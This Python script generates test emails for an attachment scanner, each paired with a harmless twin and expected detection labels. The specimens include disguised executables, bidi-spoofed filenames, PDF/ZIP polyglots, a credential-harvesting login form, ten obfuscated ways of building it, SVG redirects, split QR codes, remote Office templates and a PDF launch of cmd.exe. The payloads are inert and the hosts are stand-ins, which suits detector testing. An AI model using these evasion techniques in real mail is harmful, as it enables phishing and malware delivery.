#!/usr/bin/env python3
"""Writes the specimens of attachments: mails with one thing enclosed, their twins, what is
expected, and the answers of decoders where they are asked.

    tests/tools/author-attachments.py [--check]

The result is committed (tests/specimens/attachment); --check only says whether it is what
would be written. Codes are computed by qrencode (Debian), and drawn here."""

import base64
import io
import pathlib
import struct
import subprocess
import sys
import zipfile
import zlib

ROOM = pathlib.Path(__file__).resolve().parents[1] / "specimens/attachment"
files = {}

HEAD = ("Received: from mx.sender.example (mx.sender.example [192.0.2.7])\r\n\tby mx.example.jp (Postfix) with ESMTPS id 4A1B2C3D4E\r\n"
        "\tfor <ann@example.jp>; Mon, 05 Jan 2026 10:00:09 +0900 (JST)\r\n"
        "From: Bob <bob@sender.example>\r\nTo: ann@example.jp\r\nSubject: {subject}\r\nDate: Mon, 05 Jan 2026 10:00:00 +0900\r\n"
        "Message-ID: <20260105100000.1@sender.example>\r\nMIME-Version: 1.0\r\n")


def part(content, name=None, type_="application/octet-stream", disposition="attachment", more=""):
    if isinstance(content, str):
        content = content.encode()
    text = base64.encodebytes(content).decode().replace("\n", "\r\n")
    head = f"Content-Type: {type_}\r\n"
    if disposition:
        head += f"Content-Disposition: {disposition}" + (f";\r\n filename*=utf-8''{quoted(name)}" if name and not name.isascii() else
                                                        f"; filename=\"{name}\"" if name else "") + "\r\n"
    return head + f"Content-Transfer-Encoding: base64\r\n{more}\r\n{text}"


def quoted(name):
    return "".join(chr(b) if b < 128 and chr(b).isalnum() or chr(b) in ".-_" else f"%{b:02X}" for b in name.encode())


def mail(*parts, subject="The minutes of Monday", text="Dear Ann,\r\n\r\nhere are the minutes.\r\n\r\nBob\r\n", html=None):
    body = f"--b\r\nContent-Type: text/{'html' if html else 'plain'}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{html or text}\r\n"
    body += "".join(f"--b\r\n{p}" for p in parts)
    return HEAD.format(subject=subject) + f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{body}--b--\r\n"


def put(name, content, *expect):
    files[f"{name}.eml"] = content.encode() if isinstance(content, str) else content
    files[f"{name}.expect"] = ("\n".join(expect) + "\n").encode()


STAMP = (2026, 1, 5, 10, 0, 0)


def zipped(*entries, flags=0):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in entries:
            made.writestr(zipfile.ZipInfo(name, STAMP), content)
    data = bytearray(out.getvalue())
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        where = data.find(mark)
        while flags and where >= 0:
            data[where + at] |= flags
            where = data.find(mark, where + 4)
    return bytes(data)


PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(60)
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
ISO = bytes(0x8001) + b"CD001" + bytes(2048)


def names_and_types():
    quiet = ("!att.type-differs", "!att.double-extension", "!att.name-deceives", "!att.executable", "!class fraudulent")
    put("type-program-named-pdf", mail(part(PROGRAM, "minutes.pdf", "application/pdf")), "att.type-differs", "att.executable")
    put("type-program-named-pdf.twin-pdf", mail(part(PDF, "minutes.pdf", "application/pdf")), *quiet)
    put("type-program-named-pdf.twin-octets", mail(part(PDF, "minutes.pdf")), *quiet)
    put("type-program-named-pdf.twin-picture", mail(part(PNG, "ann.jpg", "image/jpeg")), *quiet)
    put("type-page-named-jpg", mail(part("<html><body>Hello</body></html>", "scan.jpg", "image/jpeg")), "att.type-differs")
    put("type-page-named-jpg.twin-table", mail(part("<html><table><tr><td>1</td></tr></table></html>", "report.xls", "application/vnd.ms-excel")), "!severity att.type-differs caution", "!class fraudulent")
    put("name-double-extension", mail(part(PROGRAM, "minutes.pdf.exe")), "att.double-extension", "att.executable")
    put("name-double-extension.twin-packed", mail(part(zipped(("minutes.pdf", PDF)), "minutes.pdf.zip", "application/zip")), *quiet)
    put("name-double-extension.twin-version", mail(part(PDF, "minutes.v2.final.pdf", "application/pdf")), *quiet)
    put("name-bidi", mail(part(PROGRAM, "minutes\u202efdp.exe")), "att.name-deceives")
    put("name-bidi.twin-hebrew", mail(part(PDF, "פרוטוקול.pdf", "application/pdf")), *quiet)
    put("name-padded", mail(part(PROGRAM, "minutes.pdf" + "\u3000" * 30 + ".exe")), "att.name-deceives")
    put("name-padded.twin-blanks", mail(part(PDF, "minutes of  Monday  (2).pdf", "application/pdf")), *quiet)
    put("name-look-alike-dot", mail(part("WScript.Echo(1)", "minutes\uff0epdf.js")), "att.name-deceives", "att.executable")
    put("name-look-alike-dot.twin-full-width", mail(part(PDF, "議事録\uff0e第一回.pdf", "application/pdf")), *quiet)
    for name, content in (("program.exe", PROGRAM), ("invoice.lnk", LNK), ("invoice.iso", ISO), ("invoice.vbs", "MsgBox 1"),
                          ("invoice.hta", "<html><hta:application/></html>"), ("setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))):
        put(f"runs-{name.split('.')[1]}", mail(part(content, name)), "att.executable", "severity att.executable adverse")
    put("runs-in-archive", mail(part(zipped(("invoice.js", "WScript.Echo(1)")), "invoice.zip", "application/zip")), "severity att.executable adverse")
    put("runs-in-archive.twin-sources", mail(part(zipped(*[(f"lib/{i}.c", "int x;") for i in range(30)], ("web/app.js", "alert(1)")), "project.zip", "application/zip")),
        "!severity att.executable adverse", "!class fraudulent")
    put("runs-exe.twin-shell-script", mail(part("#!/bin/sh\necho\n", "build.sh", "text/x-sh")), "severity att.executable note", "!class fraudulent")
    put("runs-exe.twin-name-of-a-place", mail(part("www.example.com\r\n", "example.com", "text/plain")), *quiet)
    put("archive-encrypted", mail(part(zipped(("invoice.pdf", PDF), flags=1), "invoice.zip", "application/zip"), text="The archive is protected. Password: Kt4-2201\r\n"),
        "att.archive-encrypted", "att.password-in-text")
    put("archive-encrypted.twin-ppap", mail(part(zipped(("議事録.pdf", PDF), flags=1), "minutes.zip", "application/zip"),
        text="議事録をお送りします。\r\nパスワードは別途メールにてお送りいたします。\r\n"), "severity att.archive-encrypted note", "!att.password-in-text", "!class fraudulent")
    put("archive-encrypted-japanese", mail(part(zipped(("請求書.pdf", PDF), flags=1), "20260105.zip", "application/zip"), text="添付ファイルの解凍パスワード：8821a\r\n"), "att.password-in-text")
    put("archive-encrypted-japanese.twin-open", mail(part(zipped(("請求書.pdf", PDF)), "20260105.zip", "application/zip"), text="パスワード：8821a は会員ページのものです。\r\n"),
        "!att.archive-encrypted", "!att.password-in-text")
    put("polyglot-zip-behind-pdf", mail(part(PDF + zipped(("invoice.js", "WScript.Echo(1)")), "invoice.pdf", "application/pdf")), "att.polyglot", "att.executable")
    put("polyglot-zip-behind-gif", mail(part(b"GIF89a\1\0\1\0\0\0\0;" + zipped(("a.js", "1")), "a.gif", "image/gif")), "att.polyglot")
    put("polyglot-zip-behind-pdf.twin-word", mail(part(PDF[:-7] + b"% PK\5\6 is how archives end\n%%EOF\n", "invoice.pdf", "application/pdf")), "!att.polyglot")


LOGIN = ('<html><body><h1>Sign in to read the document</h1><form method="post" action="https://collect.example.net/p.php">'
         '<input name="email" value="ann@example.jp"><input type="password" name="pw"><button>Open</button></form></body></html>')
INVOICE = ('<!DOCTYPE html><html><head><title>Invoice 4711</title><style>body{font-family:sans-serif}</style></head><body><h1>Invoice 4711</h1>'
           '<table><tr><td>Paper</td><td>12.00</td></tr></table><p>Thank you for your order. Please pay by 20 January to the account you know.</p>'
           '<button onclick="window.print()">Print</button><script>document.write(new Date().getFullYear())</script></body></html>')
TICKET = ('<html><body><h1>Your e-ticket</h1><p>Flight EX123, seat 12A</p><a href="https://www.airline.example/checkin">Check in</a>'
          '<script src="https://www.airline.example/t.js"></script><script>document.write("<script src=\'https://stats.example.net/a.js\'><\\/script>")</script></body></html>')


def coded(how):
    page = LOGIN
    data = base64.b64encode(page.encode()).decode()
    if how == "atob":
        return f'<script>document.write(atob("{data}"))</script>'
    if how == "pieces":
        parts = [data[i:i + 40] for i in range(0, len(data), 40)]
        return "<script>var a='';" + "".join(f"a+='{p}';" for p in parts) + "document.body.innerHTML=window['atob'](a);</script>"
    if how == "percent":
        return "<script>document.write(unescape('" + "".join(f"%{b:02x}" for b in page.encode()) + "'))</script>"
    if how == "codes":
        return "<script>document.write(String.fromCharCode(" + ",".join(str(b) for b in page.encode()) + "))</script>"
    if how == "hex":
        return "<script>var h='" + page.encode().hex() + "',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));document.write(s)</script>"
    if how == "reversed":
        return "<script>document.write('" + page[::-1].replace("'", "\\'") + "'.split('').reverse().join(''))</script>"
    if how == "xor":
        return "<script>var d=[" + ",".join(str(b ^ 42) for b in page.encode()) + "];document.write(d.map(function(x){return String.fromCharCode(x^42)}).join(''))</script>"
    if how == "escapes":
        return "<script>document.write('" + "".join(f"\\x{b:02x}" for b in page.encode()) + "')</script>"
    if how == "array":
        parts = [data[i:i + 50] for i in range(0, len(data), 50)]
        return "<script>const p=[" + ",".join(f'"{x}"' for x in parts) + "];document.open();document.write(atob(p.join('')));document.close()</script>"
    if how == "twice":
        return f'<script>eval(atob("{base64.b64encode(f"document.write(decodeURIComponent(escape(atob(`{data}`))))".encode()).decode()}"))</script>'
    raise ValueError(how)


def pages():
    quiet = ("!severity att.html-page caution", "!severity att.html-builds-page caution", "!severity att.html-builds-page adverse", "!att.html-form", "!class fraudulent")
    found = ("severity att.html-builds-page adverse", "severity att.html-form adverse", "link attachment.built.form https://collect.example.net/p.php")
    put("page-login", mail(part(LOGIN, "document.html", "text/html")), "att.html-page", "severity att.html-form adverse", "link attachment.html.form https://collect.example.net/p.php")
    put("page-login-octets", mail(part(LOGIN, "document.shtml")), "att.html-page", "severity att.html-form adverse", "link attachment.html.form https://collect.example.net/p.php")
    put("page-login-no-name", mail(part(LOGIN)), "severity att.html-form adverse")
    put("page-login.twin-invoice", mail(part(INVOICE, "invoice-4711.html", "text/html")), "att.html-page", *quiet)
    put("page-login.twin-ticket", mail(part(TICKET, "ticket.html", "text/html")), "att.html-page", *quiet, "link attachment.html.a https://www.airline.example/checkin")
    for how in ("atob", "pieces", "percent", "codes", "hex", "reversed", "xor", "escapes", "array", "twice"):
        put(f"page-built-{how}", mail(part(f"<html><body>{coded(how)}</body></html>", "document.html", "text/html")), *found)
    put("page-leaves", mail(part("<html><script>var u='https://'+'collect.example.net'+'/s?'+'e=1';window.location.href=u;</script></html>", "voice.htm", "text/html")),
        "severity att.html-page caution", "link attachment.script.location https://collect.example.net/s?e=1")
    put("page-makes-file", mail(part('<html><script>var b=atob("' + base64.b64encode(zipped(("invoice.js", "WScript.Echo(1)"))).decode() + '");var n=new Blob([b]);'
        'var a=document.createElement("a");a.href=URL.createObjectURL(n);a.download="invoice.zip";a.click();</script></html>', "invoice.html", "text/html")),
        "severity att.html-builds-page adverse", "!att.html-form")
    svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">{}</svg>'
    put("svg-script", mail(part(svg.format('<script><![CDATA[window.location="https://collect.example.net/"+"v"]]></script>'), "voice.svg", "image/svg+xml")),
        "severity att.svg-active adverse", "link attachment.script.location https://collect.example.net/v")
    put("svg-foreign", mail(part(svg.format('<foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml">' + LOGIN[12:-14] + "</body></foreignObject>"), "form.svg", "image/svg+xml")),
        "severity att.svg-active adverse", "severity att.html-form adverse")
    put("svg-animated-link", mail(part(svg.format('<a><animate attributeName="href" values="https://collect.example.net/"/><text>Open</text></a>'), "open.svg", "image/svg+xml")),
        "severity att.svg-active adverse")
    put("svg-handler", mail(part(svg.format("").replace("<svg ", '<svg onload="location.href=atob(\'aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L29u\')" '), "fax.svg", "image/svg+xml")),
        "severity att.svg-active adverse", "link attachment.script.location https://collect.example.net/on")
    put("svg-script.twin-diagram", mail(part(svg.format('<rect width="10" height="10"/><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Server</div></foreignObject><a href="https://www.sender.example/"><text>docs</text></a>'),
        "diagram.svg", "image/svg+xml")), "!severity att.svg-active caution", "!severity att.svg-active adverse", "!class fraudulent")
    put("svg-script.twin-logo", mail(part(svg.format('<path d="M0 0h10v10z"/>'), "logo.svg", "image/svg+xml")), "!att.svg-active", "!class fraudulent")


def matrix(text):
    out = subprocess.run(["qrencode", "-t", "ASCII", "-m", "0", text], check=True, capture_output=True, text=True).stdout
    return [[line[i] == "#" for i in range(0, len(line), 2)] for line in out.splitlines()]


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def picture(rows, scale=4, quiet=4, sides=(True, True)):
    """A PNG in grey; `sides`: light left and right of it."""
    left, right = (quiet * scale * side for side in sides)
    width = left + len(rows[0]) * scale + right
    empty = b"\0" + b"\xff" * width
    lines = [empty] * (quiet * scale)
    for row in rows:
        lines += [b"\0" + b"\xff" * left + b"".join((b"\0" if dark else b"\xff") * scale for dark in row) + b"\xff" * right] * scale
    lines += [empty] * (quiet * scale)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, len(lines), 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(b"".join(lines), 9)) + chunk(b"IEND", b""))


def in_blocks(rows):
    rows = [row[:] for row in rows] + ([[False] * len(rows[0])] if len(rows) % 2 else [])
    return "\r\n".join("".join(" \u2580\u2584\u2588"[a + 2 * b] for a, b in zip(rows[i], rows[i + 1])) for i in range(0, len(rows), 2))


def in_cells(rows):
    return ('<table cellspacing="0" cellpadding="0">' + "".join(
        "<tr>" + "".join(f'<td style="width:4px;height:4px;background-color:{"#000000" if dark else "#ffffff"}"></td>' for dark in row) + "</tr>\r\n" for row in rows) + "</table>")


URL = "https://collect.example.net/q?e=1"
OWN = "https://www.sender.example/ticket/4711"


def codes():
    scan = "Please scan the QR code with your phone to keep your access.\r\n"
    qr, own = matrix(URL), matrix(OWN)
    half = len(qr[0]) // 2
    put("qr-picture", mail(part(picture(qr), "code.png", "image/png"), text=scan), "severity att.qr-link caution", f"link qr {URL}")
    put("qr-picture.twin-ticket", mail(part(picture(own), "ticket.png", "image/png"), text="Show this QR code at the entrance.\r\n"),
        "severity att.qr-link note", f"link qr {OWN}", "!class fraudulent", "!class suspicious")
    put("qr-split", mail(part(picture([row[:half] for row in qr], sides=(True, False)), "a.png", "image/png"),
                         part(picture([row[half:] for row in qr], sides=(False, True)), "b.png", "image/png"), text=scan), "att.qr-split", f"link qr {URL}")
    put("qr-split.twin-two-photos", mail(part(picture([[(x * y) % 3 == 0 for x in range(40)] for y in range(40)]), "a.png", "image/png"),
                                        part(picture([[(x + y) % 3 == 0 for x in range(40)] for y in range(40)]), "b.png", "image/png")), "!att.qr-split", "!att.qr-link", "!class fraudulent")
    put("qr-characters", mail(text="Scan this:\r\n\r\n" + in_blocks(qr) + "\r\n\r\nThank you.\r\n"), "att.qr-characters", f"link qr {URL}")
    put("qr-characters-html", mail(html="<p>Scan this</p><pre>" + in_blocks(qr) + "</pre>"), "att.qr-characters", f"link qr {URL}")
    put("qr-characters.twin-chart", mail(text="Load of the week\r\n" + "\r\n".join("\u2588" * (3 + i % 17) for i in range(24)) + "\r\n"), "!att.qr-characters", "!class fraudulent")
    put("qr-cells", mail(html="<p>Scan this</p>" + in_cells(qr)), "att.qr-characters", f"link qr {URL}")
    put("qr-cells.twin-heat-map", mail(html="<p>Visits</p>" + in_cells([[(x * y) % 5 == 0 for x in range(24)] for y in range(24)])), "!att.qr-characters", "!class fraudulent")


ICS = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:{method}\r\nBEGIN:VEVENT\r\nUID:1@sender.example\r\nDTSTART:20260112T010000Z\r\nORGANIZER;CN=Bob:mailto:{organizer}\r\n"
       "ATTENDEE;RSVP=TRUE:mailto:ann@example.jp\r\nSUMMARY:Review of the minutes\r\nDESCRIPTION:Please confirm at {url}\\n\\nBo\r\n b\r\nLOCATION:Room 2\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>')
TYPES = ("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
WORD = ("word/document.xml", '<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>Please read the minutes</w:t></w:r></w:p></w:body></w:document>')
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def tnef(name, content):
    def attribute(id_, value, level=2):
        return struct.pack("<BII", level, id_, len(value)) + value + struct.pack("<H", sum(value) & 0xFFFF)
    return (struct.pack("<IH", 0x223E9F78, 1) + attribute(0x00069002, bytes(14)) + attribute(0x00018010, name.encode() + b"\0") + attribute(0x0006800F, content))


def pdf(objects):
    out = b"%PDF-1.4\n"
    places = []
    for i, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{i} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{p:010} 00000 n \n".encode() for p in places)
    return out + f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()


def documents():
    calendar = lambda **more: ICS.format(**{"method": "REQUEST", "organizer": "bob@sender.example", "url": "https://www.sender.example/r", **more})
    put("calendar-of-another", mail(part(calendar(organizer="eve@mailer.example.net", url=URL), "invite.ics", "text/calendar; method=REQUEST")),
        "severity att.calendar caution", f"link calendar {URL}")
    put("calendar-of-another-octets", mail(part(calendar(organizer="eve@mailer.example.net", url=URL), "invite.ics")), "severity att.calendar caution", f"link calendar {URL}")
    put("calendar-of-another.twin-own", mail(part(calendar(), "invite.ics", "text/calendar; method=REQUEST")), "severity att.calendar note", "!class fraudulent", "!class suspicious")
    put("card-with-link", mail(part(f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bob\r\nitem1.URL:{URL}\r\nEND:VCARD\r\n", "bob.vcf", "text/vcard")), f"link card {URL}", "!class fraudulent")
    put("office-remote-template", mail(part(zipped(TYPES, WORD, ("word/_rels/settings.xml.rels", RELS.format(kind="attachedTemplate", target="https://collect.example.net/t.dotm"))), "minutes.docx", DOCX)),
        "att.remote-template", "link office https://collect.example.net/t.dotm", "attachment docx")
    put("office-remote-template.twin-link", mail(part(zipped(TYPES, WORD, ("word/_rels/document.xml.rels", RELS.format(kind="hyperlink", target="https://www.sender.example/"))), "minutes.docx", DOCX)),
        "!att.remote-template", "link office https://www.sender.example/", "!att.type-differs", "!class fraudulent")
    put("office-macros", mail(part(zipped(TYPES, WORD, ("word/vbaProject.bin", "x")), "minutes.docm", "application/vnd.ms-word.document.macroEnabled.12")), "severity att.macro caution")
    put("office-macros.twin-plain", mail(part(zipped(TYPES, WORD), "minutes.docx", DOCX)), "!att.macro", "!att.executable", "!class fraudulent")
    put("rtf-remote-template", mail(part("{\\rtf1{\\*\\template https://collect.example.net/t.dot}Minutes}", "minutes.doc", "application/msword")), "att.remote-template", "!severity att.type-differs adverse")
    put("shortcut-to-page", mail(part(f"[InternetShortcut]\r\nURL={URL}\r\n", "minutes.url")), "severity att.executable caution", f"link shortcut {URL}")
    put("tnef-program", mail(part(tnef("minutes.exe", PROGRAM), "winmail.dat", "application/ms-tnef")), "severity att.executable adverse", "attachment tnef")
    put("tnef-program.twin-document", mail(part(tnef("minutes.pdf", PDF), "winmail.dat", "application/ms-tnef")), "!att.executable", "attachment pdf", "!class fraudulent")
    inner = HEAD.format(subject="Your mailbox is full") + f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Confirm <a href=\"{URL}\">here</a></p>\r\n"
    put("mail-as-octets", mail(part(inner, "notice.bin")), f"link attachment.html.a {URL}", "attachment message", "!att.html-page")
    put("archive-in-archive", mail(part(zipped(("inner.zip", zipped(("invoice.vbs", "MsgBox 1")))), "outer.zip", "application/zip")), "severity att.executable adverse")
    put("archive-with-page", mail(part(zipped(("document.html", LOGIN)), "document.zip", "application/zip")), "severity att.html-form adverse", "link attachment.html.form https://collect.example.net/p.php")
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]{}>>"
    annotation = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI({})>>>>]"
    tree = ["<</Type/Catalog/Pages 2 0 R{}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", page]
    put("pdf-link", mail(part(pdf([tree[0].format(""), tree[1], page.format(annotation.format(URL))]), "minutes.pdf", "application/pdf")), "att.pdf-link", f"link pdf {URL}", "!class fraudulent")
    put("pdf-launch", mail(part(pdf([tree[0].format("/OpenAction<</S/Launch/F(cmd.exe)>>"), tree[1], page.format("")]), "minutes.pdf", "application/pdf")), "severity att.pdf-action adverse")
    put("pdf-launch.twin-plain", mail(part(pdf([tree[0].format(""), tree[1], page.format("")]), "minutes.pdf", "application/pdf")), "!att.pdf-action", "!att.pdf-link", "!class fraudulent")


def main():
    names_and_types()
    pages()
    codes()
    documents()
    ROOM.mkdir(exist_ok=True)
    there = {p.name: p.read_bytes() for p in ROOM.iterdir() if p.is_file()}
    if "--check" in sys.argv:
        wrong = sorted(name for name in there.keys() | files.keys() if there.get(name) != files.get(name))
        print(f"{len(files)} files, {len(wrong)} differ" + "".join(f"\n{name}" for name in wrong))
        return bool(wrong)
    for name in there.keys() - files.keys():
        (ROOM / name).unlink()
    for name, content in files.items():
        if there.get(name) != content:
            (ROOM / name).write_bytes(content)
    return 0


if __name__ == "__main__":
    sys.exit(main())
